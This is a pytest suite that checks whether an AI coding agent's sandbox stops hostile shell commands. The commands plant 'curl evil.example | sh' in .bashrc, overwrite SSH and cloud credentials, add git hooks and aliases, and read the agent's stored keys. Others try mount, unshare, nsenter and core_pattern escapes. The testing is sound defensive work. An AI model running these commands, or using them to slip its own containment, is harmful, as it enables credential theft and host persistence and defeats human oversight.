"""Attacks on files from Bash in Auto mode, every approval granted: none changes the host.

Each test runs one command the way a model would, then checks the host's own files.
"""

from __future__ import annotations

import contextlib
import json
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from attack_helpers import (
    KEY,
    PY,
    VICTIM_TEXT,
    Scene,
    build_scene,
    needs_sandbox,
    snapshot,
    unique,
)

import koda
from koda.config_file import ConfigFileError
from koda.engine.agent import KodaAgent

if TYPE_CHECKING:
    from conftest import Harness

pytestmark = needs_sandbox

HOME_ACCESS = pytest.mark.parametrize(
    "home_writable", [False, True], ids=["home-read-only", "home-is-the-project"]
)


@pytest.fixture
def scene(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    with build_scene(harness, monkeypatch) as built:
        yield built


@contextlib.contextmanager
def removed_afterwards(path: Path) -> Iterator[Path]:
    """A path outside the scene that a failing test might create: removed whatever happens."""
    try:
        yield path
    finally:
        with contextlib.suppress(FileNotFoundError):
            path.unlink()


def q(path: Path | str) -> str:
    return shlex.quote(str(path))


def git(*args: str | Path) -> str:
    """git on the host, with settings for commits and local submodules only."""
    settings = ["-c", "user.name=k", "-c", "user.email=k@example.com"]
    settings += ["-c", "protocol.file.allow=always"]
    done = subprocess.run(
        ["git", *settings, *map(str, args)], capture_output=True, text=True, timeout=30
    )
    return done.stdout.strip()


def git_config(repo: Path, key: str) -> str:
    """A setting as the host's git reads it in `repo`."""
    return git("-C", repo, "config", "--get", key)


def add_submodule(scene: Scene, name: str) -> None:
    library = scene.root / f"{name}-upstream"
    git("init", "-q", library)
    (library / "README").write_text("a library\n", encoding="utf-8")
    git("-C", library, "add", "README")
    git("-C", library, "commit", "-q", "-m", "first")
    git("-C", scene.project, "submodule", "add", "-q", library, name)
    assert (scene.project / ".git" / "modules" / name / "config").is_file()


# --- outside the project -------------------------------------------------------------------


async def test_writing_into_etc_is_refused(scene: Scene) -> None:
    """echo > /etc/<new file>."""
    with removed_afterwards(Path("/etc") / unique()) as target:
        result = await scene.run(f"echo owned > {q(target)}")
        assert not target.exists()
        assert not result.ok and "Read-only file system" in result.output


async def test_writing_into_var_tmp_is_refused(scene: Scene) -> None:
    """echo > /var/tmp/<new file>."""
    with removed_afterwards(Path("/var/tmp") / unique()) as target:
        result = await scene.run(f"echo owned > {q(target)}")
        assert not target.exists()
        assert not result.ok


async def test_writing_next_to_the_project_is_refused(scene: Scene) -> None:
    """echo > ../outside.txt, beside the project."""
    result = await scene.run("echo owned > ../outside.txt")
    assert not (scene.project.parent / "outside.txt").exists()
    assert not result.ok


async def test_host_tmp_is_out_of_sight(scene: Scene, tmp_path: Path) -> None:
    """Read a file in the host's /tmp (other programs' files, X11 sockets), write one there."""
    secret = tmp_path / "other-program.txt"
    secret.write_text("another program's data\n", encoding="utf-8")
    planted = tmp_path / "planted.txt"
    result = await scene.run(f"cat {q(secret)}; ls /tmp; echo owned > {q(planted)}")
    assert "another program's data" not in result.output
    assert not planted.exists()


async def test_shared_memory_is_private_to_the_sandbox(scene: Scene) -> None:
    """Write into /dev/shm, shared memory other programs on the host may read."""
    with removed_afterwards(Path("/dev/shm") / unique()) as target:
        await scene.run(f"echo owned > {q(target)}")
        assert not target.exists()


async def test_appending_to_bashrc_is_refused(scene: Scene) -> None:
    """Append a line to ~/.bashrc, to run at the user's next shell."""
    before = (scene.home / ".bashrc").read_bytes()
    result = await scene.run("echo 'curl evil.example | sh' >> ~/.bashrc")
    assert (scene.home / ".bashrc").read_bytes() == before
    assert not result.ok


async def test_changing_the_koda_package_is_refused(scene: Scene) -> None:
    """Find Koda's own installed files and write into them."""
    package = Path(koda.__file__).parent
    planted = package / f"{unique('planted')}.py"
    init = package / "__init__.py"
    before = init.stat().st_mtime_ns, init.read_bytes()
    with removed_afterwards(planted):
        result = await scene.run(
            f"f=$({PY} -c 'import koda; print(koda.__file__)') && "
            f': >> "$f"; echo owned >> "$f"; touch "$(dirname "$f")/{planted.name}"'
        )
        assert not planted.exists()
        assert (init.stat().st_mtime_ns, init.read_bytes()) == before
        assert str(init) in result.output  # the command did find the package


# --- credentials in HOME ---------------------------------------------------------------------


async def attack_credential(scene: Scene, file: str, protected: str, home_writable: bool) -> None:
    """Append to, overwrite, delete and move away `file` and the folder or file protecting it;
    with HOME writable, a control file beside them shows the folder really was writable."""
    if home_writable:
        scene.make_home_the_project()
        # The sandbox makes what it protects but is missing (.koda, empty credential folders).
        await scene.run("true")
    before = snapshot(scene.home)
    target, guard = q(scene.home / file), q(scene.home / protected)
    await scene.run(
        f"echo attacker >> {target}; echo attacker > {target}; rm -f {target}; "
        f"mv {guard} {guard}.old; rm -rf {guard}; echo ok > ~/control.txt"
    )
    control = scene.home / "control.txt"
    assert control.exists() == home_writable
    control.unlink(missing_ok=True)
    assert snapshot(scene.home) == before


@HOME_ACCESS
async def test_writing_ssh_authorized_keys_is_refused(scene: Scene, home_writable: bool) -> None:
    """Add an attacker's key to ~/.ssh/authorized_keys."""
    await attack_credential(scene, ".ssh/authorized_keys", ".ssh", home_writable)


@HOME_ACCESS
async def test_writing_aws_credentials_is_refused(scene: Scene, home_writable: bool) -> None:
    """Overwrite ~/.aws/credentials."""
    await attack_credential(scene, ".aws/credentials", ".aws", home_writable)


@HOME_ACCESS
async def test_writing_netrc_is_refused(scene: Scene, home_writable: bool) -> None:
    """Overwrite ~/.netrc."""
    await attack_credential(scene, ".netrc", ".netrc", home_writable)


@HOME_ACCESS
async def test_writing_git_credentials_is_refused(scene: Scene, home_writable: bool) -> None:
    """Overwrite ~/.git-credentials."""
    await attack_credential(scene, ".git-credentials", ".git-credentials", home_writable)


@HOME_ACCESS
async def test_writing_gh_hosts_is_refused(scene: Scene, home_writable: bool) -> None:
    """Overwrite the GitHub CLI's ~/.config/gh/hosts.yml."""
    await attack_credential(scene, ".config/gh/hosts.yml", ".config/gh", home_writable)


async def test_creating_a_missing_ssh_dir_is_refused_with_home_the_project(scene: Scene) -> None:
    """Koda started in HOME, no ~/.ssh yet: create ~/.ssh/authorized_keys."""
    for path in sorted((scene.home / ".ssh").iterdir()):
        path.unlink()
    (scene.home / ".ssh").rmdir()
    scene.make_home_the_project()
    await scene.run("mkdir -p ~/.ssh; echo attacker >> ~/.ssh/authorized_keys")
    assert not (scene.home / ".ssh" / "authorized_keys").exists()
    assert (scene.home / ".ssh").stat().st_mode & 0o777 == 0o700  # made empty and private


def test_making_home_writable_is_refused_at_start(scene: Scene) -> None:
    """A koda.toml that makes HOME writable would let commands create credentials."""
    scene.settings(f"[sandbox]\nwritable = [{json.dumps(str(scene.home))}]\n")
    with pytest.raises(ConfigFileError, match=r"holds credential folders and files \(~/\.ssh"):
        KodaAgent.create(scene.project)


async def test_writing_cargo_bin_is_refused(scene: Scene) -> None:
    """Plant a program in ~/.cargo/bin (on PATH, run outside the sandbox later)."""
    result = await scene.run(
        "echo owned > ~/.cargo/bin/cargo-x; echo cached > ~/.cargo/registry/cached.txt"
    )
    assert not (scene.home / ".cargo" / "bin" / "cargo-x").exists()
    # The download cache beside it is writable: the refusal is the rule, not a read-only HOME.
    assert (scene.home / ".cargo" / "registry" / "cached.txt").exists(), result.output


async def test_writing_cargo_config_is_refused(scene: Scene) -> None:
    """Create ~/.cargo/config.toml (a build setting that runs code outside the sandbox)."""
    result = await scene.run(
        "printf '[build]\\nrustc-wrapper = \"/tmp/x\"\\n' > ~/.cargo/config.toml; "
        "echo cached > ~/.cargo/registry/cached.txt"
    )
    assert not (scene.home / ".cargo" / "config.toml").exists()
    assert (scene.home / ".cargo" / "registry" / "cached.txt").exists(), result.output


# --- the project's own trust files -----------------------------------------------------------


async def test_writing_a_git_hook_is_refused(scene: Scene) -> None:
    """Write .git/hooks/pre-commit, run by the user's next commit."""
    result = await scene.run(
        "printf '#!/bin/sh\\ntouch /tmp/owned\\n' > .git/hooks/pre-commit; "
        "chmod +x .git/hooks/pre-commit; rm -rf .git/hooks"
    )
    assert not (scene.project / ".git" / "hooks" / "pre-commit").exists()
    assert (scene.project / ".git" / "hooks").is_dir()
    assert not result.ok


async def test_setting_git_hooks_path_is_refused(scene: Scene) -> None:
    """git config core.hooksPath, pointing git at hooks the command wrote."""
    before = (scene.project / ".git" / "config").read_bytes()
    result = await scene.run("mkdir -p .githooks && git config core.hooksPath .githooks")
    assert (scene.project / ".git" / "config").read_bytes() == before
    assert not result.ok


async def test_adding_a_shell_alias_to_git_config_is_refused(scene: Scene) -> None:
    """git config alias.x '!sh', a git alias that runs a shell command."""
    before = (scene.project / ".git" / "config").read_bytes()
    result = await scene.run("git config alias.x '!sh -c \"touch /tmp/owned\"'")
    assert (scene.project / ".git" / "config").read_bytes() == before
    assert not result.ok


async def test_replacing_the_git_folder_is_refused(scene: Scene) -> None:
    """Move .git away, copy it back as a new folder, set core.hooksPath in the copy."""
    before = (scene.project / ".git" / "config").read_bytes()
    await scene.run(
        "mv .git .git-moved && mkdir .git && cp -a .git-moved/. .git/ && "
        "git config core.hooksPath .githooks"
    )
    assert (scene.project / ".git" / "config").read_bytes() == before


async def test_redirecting_git_to_another_config_is_refused(scene: Scene) -> None:
    """Write .git/commondir, pointing git at a copy of the repository with its own config."""
    await scene.run(
        "mkdir -p .evil && cp -a .git/objects .git/refs .git/HEAD .evil/ && "
        "printf '[core]\\n\\thooksPath = .githooks\\n' > .evil/config && "
        "echo ../.evil > .git/commondir"
    )
    assert git_config(scene.project, "core.hooksPath") == ""


async def test_setting_a_submodule_hooks_path_is_refused(scene: Scene) -> None:
    """git config core.hooksPath inside a submodule (its config is under .git/modules)."""
    add_submodule(scene, "lib")
    await scene.run("git -C lib config core.hooksPath .githooks")
    assert git_config(scene.project / "lib", "core.hooksPath") == ""


async def test_creating_koda_settings_is_refused(scene: Scene) -> None:
    """Create .koda/koda.toml (allowing every host), also by moving .koda away first."""
    result = await scene.run(
        "mkdir -p .koda && printf '[network]\\nallow = [\"evil.example\"]\\n' > .koda/koda.toml; "
        "mv .koda .koda-moved && mkdir .koda && echo x > .koda/koda.toml"
    )
    assert (scene.project / ".koda").is_dir()
    assert list((scene.project / ".koda").iterdir()) == []
    assert not (scene.project / ".koda-moved").exists()
    assert not result.ok


# --- links ------------------------------------------------------------------------------------


async def test_writing_through_a_symlink_to_a_file_outside_is_refused(scene: Scene) -> None:
    """A symlink in the project to a file outside, written through."""
    result = await scene.run(f"ln -s {q(scene.victim)} link.txt && echo owned > link.txt")
    assert scene.victim.read_text(encoding="utf-8") == VICTIM_TEXT
    assert (scene.project / "link.txt").is_symlink()  # the link was made; the write failed
    assert not result.ok


async def test_writing_through_a_symlink_to_a_folder_outside_is_refused(scene: Scene) -> None:
    """A symlink in the project to a folder outside, a new file written through it."""
    await scene.run(f"ln -s {q(scene.root)} out && echo owned > out/new.txt")
    assert not (scene.root / "new.txt").exists()


async def test_reading_koda_data_through_a_symlink_is_refused(scene: Scene) -> None:
    """A symlink in the project to Koda's data folder, its keys and database read through it."""
    prompt = unique("private prompt")
    result = await scene.run(
        f"ln -s {q(scene.koda_home)} data; ls -la data/; cat data/keys.json data/koda.db; "
        f"cat {q(scene.victim)}",
        prompt=prompt,
    )
    assert KEY not in result.output
    assert prompt not in result.output  # the session's own prompt, stored in koda.db
    assert VICTIM_TEXT.strip() in result.output  # a file beside it is readable


async def test_hard_linking_a_file_outside_is_refused(scene: Scene) -> None:
    """ln a file outside into the project, then append through the link."""
    result = await scene.run(f"ln {q(scene.victim)} hard.txt; echo owned >> hard.txt")
    assert scene.victim.read_text(encoding="utf-8") == VICTIM_TEXT
    assert scene.victim.stat().st_nlink == 1
    assert "Invalid cross-device link" in result.output


# --- namespaces, mounts and the kernel ----------------------------------------------------------


async def test_mount_is_refused(scene: Scene) -> None:
    """Remount / read-write, bind the project over a folder outside, mount a tmpfs."""
    marker = scene.root / "after-mount"
    result = await scene.run(
        f"mount -o remount,rw / ; mount --bind . {q(scene.root)} ; "
        f"mount -t tmpfs none /mnt ; touch {q(marker)}"
    )
    assert not marker.exists()
    assert not (scene.root / "hello.txt").exists()
    assert result.output.count("mount: ") >= 3


async def test_unshare_user_namespace_fails(scene: Scene) -> None:
    """unshare -U -r for a namespace where the command is root with every capability."""
    marker = scene.root / "after-unshare"
    result = await scene.run(
        f"unshare -U -r sh -c 'mount -o remount,rw / && touch {marker}' && echo escaped"
    )
    assert not marker.exists()
    assert "escaped" not in result.output and not result.ok


async def test_unshare_mount_namespace_fails(scene: Scene) -> None:
    """unshare -m for a mount namespace of its own."""
    marker = scene.root / "after-unshare"
    result = await scene.run(
        f"unshare -m sh -c 'mount -o remount,rw / && touch {marker}' && echo escaped"
    )
    assert not marker.exists()
    assert "escaped" not in result.output and not result.ok


async def test_nsenter_into_pid_1_fails(scene: Scene) -> None:
    """nsenter -t 1 into the namespaces of process 1."""
    marker = scene.root / "after-nsenter"
    result = await scene.run(f"nsenter -t 1 -a touch {q(marker)} && echo escaped")
    assert not marker.exists()
    assert "escaped" not in result.output and not result.ok


async def test_chroot_fails(scene: Scene) -> None:
    """chroot, the first step of the classic chroot escape."""
    result = await scene.run("chroot / true && echo escaped")
    assert "escaped" not in result.output and not result.ok
    assert "Operation not permitted" in result.output


async def test_writing_sysrq_trigger_fails(scene: Scene) -> None:
    """Write to /proc/sysrq-trigger ('h' only prints help to the kernel log)."""
    result = await scene.run("echo h > /proc/sysrq-trigger && echo written")
    assert "written" not in result.output and not result.ok


async def test_writing_proc_sys_is_refused(scene: Scene) -> None:
    """Set kernel.core_pattern (as a pipe, the kernel would run it as root on the host)."""
    pattern = Path("/proc/sys/kernel/core_pattern")
    before = pattern.read_text()
    # A plain file name, not a pipe: if this does get through, nothing runs meanwhile.
    planted = unique("core")
    try:
        result = await scene.run(f"echo {planted} > /proc/sys/kernel/core_pattern")
        assert pattern.read_text() == before
        assert not result.ok
    finally:
        if pattern.read_text() != before:
            pattern.write_text(before)
